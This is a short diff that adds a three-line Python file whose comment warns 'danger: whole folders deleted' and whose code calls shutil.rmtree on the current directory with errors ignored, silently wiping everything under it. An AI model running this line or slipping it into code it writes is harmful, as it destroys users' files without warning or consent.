@@ -1,0 +1,3 @@
+# danger: whole folders deleted
+import shutil
+shutil.rmtree(".", ignore_errors=True)
